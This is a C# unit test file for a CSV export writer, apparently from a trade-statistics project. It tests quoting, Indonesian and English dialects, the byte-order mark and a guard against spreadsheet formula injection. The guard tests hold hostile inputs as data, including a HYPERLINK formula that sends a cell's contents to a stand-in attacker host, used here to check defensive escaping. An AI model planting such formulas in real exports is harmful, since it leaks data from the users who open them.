using System.Text;
using Neraca.Commodities;
using Neraca.Common.Tables;
using Neraca.Trade;

namespace Neraca.Tests.Common;

/// <summary>The one CSV writer: RFC 4180 quoting, the OWASP formula guard (ASCII and full-width), dialects and the BOM.</summary>
public class CsvWriterTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klik\")", "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Klik\"\")\"")]
    [InlineData("=1+1", "\"'=1+1\"")]
    [InlineData("\uFF1D1+1", "\"'\uFF1D1+1\"")]
    [InlineData("+62 812", "\"'+62 812\"")]
    [InlineData("-1+1", "\"'-1+1\"")]
    [InlineData("@SUM(A1)", "\"'@SUM(A1)\"")]
    [InlineData("\t=1", "\"'\t=1\"")]
    [InlineData("\uFF0B1", "\"'\uFF0B1\"")]
    [InlineData("\uFF0D1", "\"'\uFF0D1\"")]
    [InlineData("\uFF201", "\"'\uFF201\"")]
    public void Field_FormulaStart_QuotedWithApostrophe(string value, string expected)
    {
        Assert.Equal(expected, CsvWriter.Field(value, CsvDialect.English));
        Assert.Equal(expected, CsvWriter.Field(value, CsvDialect.English, numeric: true));
    }

    [Theory]
    [InlineData("Côte d'Ivoire", "Côte d'Ivoire")]
    [InlineData("Korea, Republic of", "\"Korea, Republic of\"")]
    [InlineData("say \"hi\"", "\"say \"\"hi\"\"\"")]
    [InlineData("two\nlines", "\"two\nlines\"")]
    [InlineData("a=b", "a=b")]
    [InlineData("090111", "090111")]
    public void Field_Text_Rfc4180Quoting(string value, string expected) =>
        Assert.Equal(expected, CsvWriter.Field(value, CsvDialect.English));

    [Fact]
    public void Field_IndonesianDialect_SemicolonQuotedAndDecimalComma()
    {
        Assert.Equal("\"a;b\"", CsvWriter.Field("a;b", CsvDialect.Indonesian));
        Assert.Equal("a,b", CsvWriter.Field("a,b", CsvDialect.Indonesian));
        Assert.Equal("-27,03", CsvWriter.Field("-27.03", CsvDialect.Indonesian, numeric: true));
        Assert.Equal("206310000", CsvWriter.Field("206310000", CsvDialect.Indonesian, numeric: true));
        Assert.Equal("-27.03", CsvWriter.Field("-27.03", CsvDialect.English, numeric: true));
    }

    [Fact]
    public void Encode_AddsUtf8Bom()
    {
        var bytes = CsvWriter.Encode("a\n");
        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF, (byte)'a', (byte)'\n' }, bytes);
    }

    [Fact]
    public void TopCsv_HostileCountryName_Guarded()
    {
        var row = new TopRow { Rank = 1, Key = "XX", Label = "=HYPERLINK(\"http://x\")", LabelId = "", LabelEn = "", ValueUsd = -5.5m, SharePct = 1m, Unspecified = false };

        var csv = TradeFormat.TopCsv([row]);

        var line = csv.Split('\n')[1];
        Assert.Equal("1,XX,\"'=HYPERLINK(\"\"http://x\"\")\",-5.5,1.00,,,false", line);
    }

    [Fact]
    public void CommodityTableCsv_HostileLabel_Guarded()
    {
        var table = new CommodityTable("t", ["hs", "label", "value_usd"], [["090111", "\uFF1D1+1", "-3"]]);

        Assert.Equal("hs,label,value_usd\n090111,\"'\uFF1D1+1\",-3\n", table.ToCsv());
        Assert.Equal("hs;label;value_usd\n090111;\"'\uFF1D1+1\";-3\n", table.ToCsv(CsvDialect.Indonesian));
    }

    [Theory]
    [InlineData("value_usd", ColumnKind.Amount)]
    [InlineData("weight_kg", ColumnKind.Amount)]
    [InlineData("yoy_pct", ColumnKind.Percent)]
    [InlineData("rca", ColumnKind.Ratio)]
    [InlineData("rank", ColumnKind.Count)]
    [InlineData("hs", ColumnKind.Text)]
    [InlineData("key", ColumnKind.Text)]
    [InlineData("period", ColumnKind.Text)]
    public void KindOf_ColumnKey_NumberOrText(string key, ColumnKind kind) => Assert.Equal(kind, TableColumns.KindOf(key));

    [Fact]
    public void IsPlainNumber_OnlyPlainDecimals()
    {
        Assert.True(CsvWriter.IsPlainNumber("-0.5"));
        Assert.False(CsvWriter.IsPlainNumber("1e5"));
        Assert.False(CsvWriter.IsPlainNumber("-"));
        Assert.False(CsvWriter.IsPlainNumber("1."));
        Assert.False(CsvWriter.IsPlainNumber("-1+1"));
        Assert.Equal("\"'-1+1\"", Encoding.UTF8.GetString(Encoding.UTF8.GetBytes(CsvWriter.Field("-1+1", CsvDialect.English, true))));
    }
}
